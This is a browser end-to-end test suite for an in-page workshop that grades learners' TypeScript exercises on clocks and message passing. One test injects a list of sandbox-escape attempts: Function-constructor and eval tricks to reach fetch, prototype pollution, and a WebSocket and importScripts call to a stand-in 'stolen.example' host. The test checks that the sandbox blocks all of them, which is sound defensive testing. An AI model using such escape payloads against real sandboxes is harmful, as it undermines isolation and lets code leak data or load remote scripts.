import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { executablePath, expectAccessible, suffix, useBrowser } from "./open-page.ts";

const root = join(import.meta.dirname, "../../..");
const hello = readFileSync(join(root, "solutions/0-many-chefs/0.1-hello-machine/starter.ts"), "utf8");
const lamport = readFileSync(join(root, "packages/clocks/src/lamport-clock.ts"), "utf8");
const todo = '// TODO(learner): answer. Put this in place of the line: context.send(from, "hello back");';
const clipboard = { permissions: ["clipboard-read", "clipboard-write"] };
const rightLine = 'context.send(from, "hello back");';

describe.skipIf(executablePath === undefined)(`the workshop in the page${suffix}`, () => {
  const browser = useBrowser();

  test("an exercise goes from red to green, and what comes after it opens by stages", async () => {
    const { page, complaints } = await browser.open("/workshop/1.1");
    await ready(page);
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, "0 of 9 checks passed.");
    const first = page.locator(".check").first();
    await expect.poll(() => first.innerText()).toContain("every event puts out one stamp");
    expect(await first.innerText()).toContain("broken here");
    expect(await page.getByRole("heading", { name: "Passed. And then?" }).count()).toBe(0);

    await write(page, lamport);
    await page.keyboard.press("Control+Enter");
    await expectSaid(page, "Passed: all 9 checks.");
    expect(await page.locator(".check.passed").count()).toBe(9);
    expect(await page.getByRole("link", { name: "1.2 vector clock" }).getAttribute("href")).toBe("/workshop/1.2");

    await page.keyboard.insertText("// and more");
    await expectSaid(page, "Passed: all 9 checks. You have changed the file since.");
    await page.keyboard.press("Control+z");
    await expectSaid(page, /^Passed: all 9 checks\.$/);

    const how = page.getByRole("button", { name: "Show how, beside mine" });
    expect(await how.isDisabled()).toBe(true);
    await page.getByRole("button", { name: "Show what it declares" }).click();
    const declared = page.getByLabel("What the library's file declares");
    await declared.waitFor();
    expect(await declared.innerText()).toContain("compareStamps(first: Stamp, second: Stamp): number { … }");
    expect(await declared.innerText()).not.toContain("Math.max");
    await how.click();
    expect(await page.locator(".diff").innerText()).toContain("Math.max");
    expect(await page.locator(".diff .mine").count()).toBe(0);
    expect(complaints).toEqual([]);
  });

  test("a file that fails like a known mistake is given its hint", async () => {
    const { page } = await browser.open("/workshop/1.1");
    await ready(page);
    await write(page, lamport.replace("state.counter = Math.max(state.counter, message.counter);", ""));
    await page.getByRole("button", { name: "Check" }).click();
    const notice = page.locator(".desk .notice");
    await expect
      .poll(() => notice.allInnerTexts(), patient)
      .toEqual([
        "It fails like a known mistake: “forgets the max”. The message knows how late it is at its sender. Does the receiver listen?",
      ]);
  });

  test("the run that breaks a law is stepped through in the page", async () => {
    const { page, complaints } = await browser.open("/workshop/1.1");
    await ready(page);
    await write(page, lamport.replace("state.counter = Math.max(state.counter, message.counter);", ""));
    await page.getByRole("button", { name: "Check" }).click();
    const why = page.locator(".check.failed").first();
    await why.getByRole("button", { name: "Step through this run" }).click();
    await why.locator(".execution-view").waitFor();
    expect(await why.locator(".execution-view").innerText()).toContain("a → b implies C(a) < C(b)");
    // The learner's own machines go another way, in their worker, and the laws watch.
    await why.getByRole("button", { name: "Take back this event and choose again" }).click();
    const options = why.locator(".fork-options li");
    await options.first().waitFor();
    expect(await options.filter({ hasText: "what happened next" }).count()).toBe(1);
    await options.first().getByRole("button").click();
    await why.getByText("Your own run: you left the recorded one at event").waitFor();
    await why.getByRole("button", { name: "Back to the recorded run" }).waitFor();
    await expectAccessible(page);
    expect(complaints).toEqual([]);
  });

  describe("the link of a verdict", () => {
    const wrong = lamport.replace("state.counter = Math.max(state.counter, message.counter);", "");

    /** Has a file graded, and gives the link of the first run that breaks a law. */
    async function linkOf(page: Page, text: string): Promise<string> {
      await ready(page);
      await write(page, text);
      await page.getByRole("button", { name: "Check" }).click();
      const why = page.locator(".check.failed").first();
      await why.getByRole("button", { name: "Copy link" }).click();
      await why.getByText("The link is copied.").waitFor();
      return page.evaluate(async () => navigator.clipboard.readText());
    }

    for (const colorScheme of ["light", "dark"] as const) {
      test(`leads to the same run, made with the file in this browser, ${colorScheme}`, async () => {
        const { page, complaints } = await browser.open("/workshop/1.1", { colorScheme, ...clipboard });
        const link = await linkOf(page, wrong);
        expect(link).toMatch(/\/run\?link=mr1\.1-1-/);
        await page.goto(link);
        await page.getByText("This is the run that the link was made of.").waitFor();
        await page.getByRole("heading", { level: 1, name: "A run of 1.1 lamport clock" }).waitFor();
        const view = page.locator(".execution-view");
        await view.getByRole("region", { name: "The broken law" }).waitFor();
        expect(await view.innerText()).toContain("a → b implies C(a) < C(b)");
        await view.getByRole("button", { name: "Take back this event and choose again" }).click();
        await view.locator(".fork-options li").first().getByRole("button").click();
        await view.getByText("Your own run: you left the recorded one at event").waitFor();
        expect(await page.getByLabel("The command").innerText()).toBe(
          `pnpm millrace replay ${new URL(link).searchParams.get("link")}`,
        );
        await expectAccessible(page);
        expect(complaints).toEqual([]);
      });
    }

    test("says that the file has been mended since, and where nothing is written, what to do", async () => {
      const { page, complaints } = await browser.open("/workshop/1.1", clipboard);
      const link = await linkOf(page, wrong);
      await write(page, lamport);
      await page.goto(link);
      await page.getByText("No law is broken in it now.").waitFor();
      await page.getByText("Every choice was made again as it was when this link was made.").waitFor();
      await page.getByRole("link", { name: "check your file" }).click();
      await ready(page);
      await write(page, "const a = ;");
      await page.goto(link);
      await page.getByRole("alert").filter({ hasText: "The file is no TypeScript as it is now" }).waitFor();
      await expectAccessible(page);
      const { page: elsewhere } = await browser.open(new URL(link).pathname + new URL(link).search);
      const alert = elsewhere.getByRole("alert");
      await alert.waitFor();
      expect(await alert.innerText()).toContain("You have written nothing for 1.1 in this browser");
      await expectAccessible(elsewhere);
      await alert.getByRole("link", { name: "put the file into the editor" }).click();
      await ready(elsewhere);
      expect(complaints).toEqual([]);
    });

    test("of the starter leads to its run, though nothing is written", async () => {
      const { page, complaints } = await browser.open("/workshop/1.1", clipboard);
      await ready(page);
      await page.getByRole("button", { name: "Check" }).click();
      await page.locator(".check.failed").first().getByRole("button", { name: "Copy link" }).click();
      await page.getByText("The link is copied.").waitFor();
      await page.goto(await page.evaluate(async () => navigator.clipboard.readText()));
      await page.getByText("This is the run that the link was made of. It is the starter’s").waitFor();
      expect(complaints).toEqual([]);
    });

    test("with another exercise's checks is said not to fit them", async () => {
      const { page } = await browser.open("/workshop/1.1", clipboard);
      const link = await linkOf(page, wrong);
      await page.goto(link.replace(/\.\d+-(\d+-\d+\.)/, ".99-$1"));
      const alert = page.getByRole("alert");
      await alert.waitFor();
      expect(await alert.innerText()).toContain("which this 1.1 does not have");
    });
  });

  test("an endless loop is ended and named, and the page goes on", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await ready(page);
    await write(page, hello.replace(todo, 'while (from !== "") {}'));
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, /onMessage of \w+ had not returned after 2 seconds/);
    await write(page, `while (true) {}\n${hello}`);
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, /still being loaded/);
    await write(page, hello.replace(todo, rightLine));
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, "Passed: all 3 checks.");
  });

  test("a file that cannot be read is told with its line", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await ready(page);
    await write(page, `${hello}\nexport const a = ;\n`);
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, "Not graded: Expression expected.");
    const line = hello.split("\n").length + 1;
    await page.getByText(`hello-machine.ts, line ${line}, column 18`).waitFor();
  });

  test("what is thrown is shown at its line", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await ready(page);
    await write(page, hello.replace(todo, 'throw new Error("not yet");'));
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, "0 of 3 checks passed.");
    const line = hello.slice(0, hello.indexOf(todo)).split("\n").length;
    await expect.poll(() => page.locator(".check").first().innerText()).toContain(`hello-machine.ts, line ${line}`);
  });

  test("answers to exercises that bring files of their own pass", async () => {
    const { page } = await browser.open("/course");
    for (const [id, file] of [
      ["0.2", "dataflow/src/scatter-gather.ts"],
      ["2.2", "ordering/src/keyed-partitions.ts"],
      ["4.3", "snapshots/src/chandy-lamport.ts"],
      ["8.1", "clocks/src/matrix-clock.ts"],
    ] as const) {
      await page.goto(new URL(`/workshop/${id}`, page.url()).href);
      await ready(page);
      const text = readFileSync(join(root, "packages", file), "utf8");
      await write(page, text.replaceAll('from "./', `from "@millrace/${file.split("/")[0]}/`));
      await page.getByRole("button", { name: "Check" }).click();
      await expectSaid(page, "Passed: all");
    }
  });

  test("types: the answer has no error, a wrong type has one, and a context's members are offered", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await ready(page);
    const right = hello.replace(todo, rightLine);
    await write(page, `${right}\nconst wrong: number = "text";\n`);
    await expect.poll(() => page.locator(".cm-lintRange-error").allInnerTexts(), patient).toEqual(["wrong"]);
    await write(page, right);
    await expect.poll(() => page.locator(".cm-lintRange-error").count(), patient).toBe(0);
    await write(
      page,
      hello.replace(todo, "").replace('    context.send(greet, "hello");\n  },\n});\n', "    context."),
    );
    await page.keyboard.press("Control+Space");
    await expect.poll(() => page.locator(".cm-tooltip-autocomplete").innerText(), patient).toMatch(/setTimer/);
  });

  test("work survives a reload; beginning again keeps a copy", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await ready(page);
    const mine = `// mine\n${hello.replace(todo, rightLine)}`;
    await write(page, mine);
    await page.reload();
    await ready(page);
    expect(await page.locator(".cm-line").first().innerText()).toBe("// mine");
    await page.getByRole("button", { name: "Begin again" }).click();
    await expect.poll(() => page.locator(".cm-line").first().innerText()).toBe("/**");
    await page.reload();
    await ready(page);
    expect(await page.locator(".cm-line").first().innerText()).toBe("/**");
    await page.getByLabel("Copies").selectOption("0");
    await expect.poll(() => page.locator(".cm-line").first().innerText()).toBe("// mine");
    await write(page, "// another");
    await page.getByRole("button", { name: "Begin again" }).click();
    await expect.poll(() => page.locator(".cm-line").first().innerText()).toBe("/**");
    await page.getByLabel("Copies").selectOption("0");
    await expect.poll(() => page.locator(".cm-line").first().innerText()).toBe("// another");
    await page.getByLabel("Copies").selectOption("1");
    await expect.poll(() => page.locator(".cm-line").first().innerText()).toBe("// mine");
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download hello-machine.ts" }).click();
    const file = await download;
    expect(file.suggestedFilename()).toBe("hello-machine.ts");
    expect(readFileSync(await file.path(), "utf8")).toBe(mine);
  });

  test("a browser that keeps nothing is told so, and everything else works", async () => {
    const { page } = await browser.open("/");
    await page.addInitScript(() => {
      Object.defineProperty(globalThis, "localStorage", {
        get: () => {
          throw new DOMException("denied", "SecurityError");
        },
      });
    });
    await page.goto(new URL("/workshop/0.1", page.url()).href);
    await ready(page);
    await write(page, hello.replace(todo, rightLine));
    await page.getByRole("alert").filter({ hasText: "download your file" }).waitFor();
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, "Passed: all 3 checks.");
  });

  test("an exercise is solved by keyboard alone", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await ready(page);
    const focused = (): Promise<string> =>
      page.evaluate(() => document.activeElement?.ariaLabel ?? document.activeElement?.textContent ?? "");
    for (let steps = 0; steps < 60 && (await focused()) !== "hello-machine.ts, your file"; steps++)
      await page.keyboard.press("Tab");
    expect(await focused()).toBe("hello-machine.ts, your file");
    await page.keyboard.press("Control+Home");
    const line = hello.slice(0, hello.indexOf(todo)).split("\n").length;
    for (let row = 1; row < line; row++) await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Home");
    await page.keyboard.press("Shift+End");
    await page.keyboard.type(rightLine);
    await page.keyboard.press("Escape");
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Check");
    await page.keyboard.press("Enter");
    await expectSaid(page, "Passed: all 3 checks.");
  });

  test("a learner's code finds no way out of its compartment", async () => {
    const { page, complaints } = await browser.open("/workshop/0.1");
    const requests: string[] = [];
    await ready(page);
    page.on("request", (request) => requests.push(request.url()));
    await write(page, `${hello}\n${escapes}`);
    await page.getByRole("button", { name: "Check" }).click();
    await expectSaid(page, /hello-machine.ts threw while it was loaded: found: (nothing ){15}nothing\.$/);
    expect(requests.filter((url) => url.includes("stolen"))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test("an unknown exercise is not here", async () => {
    const { page } = await browser.open("/workshop/9.9");
    await page.getByRole("heading", { name: "No such exercise" }).waitFor();
    expect(await page.getByRole("button", { name: "Check" }).count()).toBe(0);
  });

  test("hints come one at a time", async () => {
    const { page } = await browser.open("/workshop/0.1");
    await page.getByRole("button", { name: "Show a hint (3 left)" }).click();
    expect(await page.getByRole("heading", { name: /^Hint \d/ }).allInnerTexts()).toEqual(["Hint 1"]);
    await page.getByRole("button", { name: "Show another hint (2 left)" }).click();
    await page.getByRole("button", { name: "Show another hint (1 left)" }).click();
    await page.getByText("That was the last hint.").waitFor();
  });

  for (const colorScheme of ["light", "dark"] as const) {
    test(`axe finds nothing, ${colorScheme}`, async () => {
      const { page } = await browser.open("/workshop/0.1", { colorScheme });
      await ready(page);
      await page.locator(".drawing svg").waitFor();
      await page.getByRole("button", { name: "Check" }).click();
      await expectSaid(page, "2 of 3 checks passed.");
      await expectAccessible(page);
      await write(page, hello.replace(todo, rightLine));
      await page.getByRole("button", { name: "Check" }).click();
      await expectSaid(page, "Passed: all 3 checks.");
      await expectAccessible(page);
    });
  }
});

/** Each tries something that would be a way out, and says what it got. */
const escapes = `
const tries: (() => unknown)[] = [
  () => fetch,
  () => globalThis.postMessage,
  () => globalThis.constructor.constructor("return postMessage")(),
  () => Function("return fetch")(),
  () => (function () {} as any).constructor("return self")(),
  () => (async () => {}).constructor("return self")(),
  () => (function* () {}).constructor("return self")().next().value,
  () => (0, eval)("self"),
  () => defineMachine.constructor("return self")(),
  () => [].constructor.constructor("return self")(),
  () => { (Object.prototype as any).polluted = 1; return ({} as any).polluted; },
  () => { (Array.prototype as any).map = 1; return [].map === 1 ? "map" : undefined; },
  () => { (defineMachine as any).stolen = 1; return (defineMachine as any).stolen; },
  () => new XMLHttpRequest(),
  () => new WebSocket("wss://stolen.example"),
  () => importScripts("https://stolen.example/a.js"),
];
const found = tries.map((attempt) => {
  try {
    const got = attempt();
    return got === undefined ? "nothing" : String(got);
  } catch {
    return "nothing";
  }
});
throw new Error("found: " + found.join(" ") + ".");
`;

/** Grading takes as long as it takes on a busy computer. */
const patient = { timeout: 60_000 };

async function ready(page: Page): Promise<void> {
  await page.locator(".cm-content").waitFor();
}

/** Puts a text in place of what is in the editor. */
async function write(page: Page, text: string): Promise<void> {
  await page.locator(".cm-content").focus();
  await page.keyboard.press("Control+a");
  await page.keyboard.insertText(text);
}

async function expectSaid(page: Page, what: string | RegExp): Promise<void> {
  await expect.poll(() => page.locator(".desk > .controls [role=status]").innerText(), patient).toMatch(what);
}
